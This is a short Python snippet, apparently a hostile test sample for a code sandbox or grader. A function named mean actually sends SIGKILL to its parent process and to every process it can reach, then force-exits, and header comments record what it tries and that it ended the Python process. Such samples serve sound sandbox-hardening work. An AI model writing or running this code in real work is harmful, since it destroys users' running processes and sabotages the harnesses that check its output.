# tries: signals to everything it can see, from a call
# mark: 15
# sentence: ended the Python process
# %% mean
import os, signal
def mean(x):
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    os._exit(3)
